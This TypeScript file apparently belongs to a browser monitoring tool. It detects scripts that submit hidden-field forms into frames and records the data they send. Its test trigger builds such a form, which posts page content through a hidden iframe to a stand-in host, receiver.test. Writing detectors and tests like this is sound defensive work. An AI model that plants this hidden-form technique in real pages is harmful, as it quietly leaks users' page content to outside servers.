import { getterOf, isGenuine, methodOf, NativeFormData } from '../natives';
import { on, type Surface, type Trigger } from '../surface';

// Each asked of the prototype: a form's fields can be named like any property of it.
const actionOf = getterOf<string>('HTMLFormElement', 'action');
const methodIn = getterOf<string>('HTMLFormElement', 'method');
const targetOf = getterOf<string>('HTMLFormElement', 'target');
const elementsOf = getterOf<unknown>('HTMLFormElement', 'elements');
const isConnected = getterOf<boolean>('Node', 'isConnected');
const itemOf = methodOf<[number], object | null>('HTMLCollection', 'item');
const isInput = isGenuine('HTMLInputElement', 'type');
const typeOf = getterOf<string>('HTMLInputElement', 'type');
const nameOf = getterOf<string>('HTMLInputElement', 'name');
const valueOf = getterOf<string>('HTMLInputElement', 'value');
const append = methodOf<[string, string], void>('FormData', 'append');
const mostFields = 30;

/**
 * Forms without anything to fill in that a script sends into a frame: the oldest way to tell somebody something. Payments
 * and sign-ins go the same way, so nothing but what was typed or stands in the page is told of (sends.ts).
 */
export const forms: Surface = ({ sends }) => {
  on('HTMLFormElement', 'submit', (_args, self) => {
    const target = targetOf(self);
    const goesIntoFrame = target !== '' && target[0] !== '_';
    if (!goesIntoFrame || !isConnected(self) || methodIn(self) === 'dialog' || !isHidden(self)) return;
    const fields = new NativeFormData();
    eachField(self, (field) => append(fields, nameOf(field), valueOf(field)));
    sends.note('form', actionOf(self), fields);
  });
};

/** Whether each of a form's fields is a hidden one; a form with very many is somebody's own. */
function isHidden(form: unknown): boolean {
  let count = 0;
  let hidden = 0;
  eachField(form, (field) => {
    count += 1;
    if (isInput(field) && typeOf(field) === 'hidden') hidden += 1;
  });
  return count > 0 && count <= mostFields && hidden === count;
}

/** One more than may be there shows that there are too many. */
function eachField(form: unknown, take: (field: object) => void): void {
  const elements = elementsOf(form);
  for (let index = 0; index <= mostFields; index++) {
    const field = itemOf(elements, index);
    if (field === null) return;
    take(field);
  }
}

const sentInto = (target: string, value: string): string => `(() => {
  const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://receiver.test/form' });
  form.target = ${target};
  form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'page', value: ${value} }));
  document.body.append(form, Object.assign(document.createElement('iframe'), { name: form.target, hidden: true }));
  form.submit();
})()`;

export const formTriggers = (): Trigger[] => [
  {
    run: sentInto("'markup-' + Math.random()", `'<p>${'a word '.repeat(4)}</p>'.repeat(10)`),
    kind: 'send',
    gives: { api: 'form', url: 'https://receiver.test/form', holdsPageContent: true },
  },
];
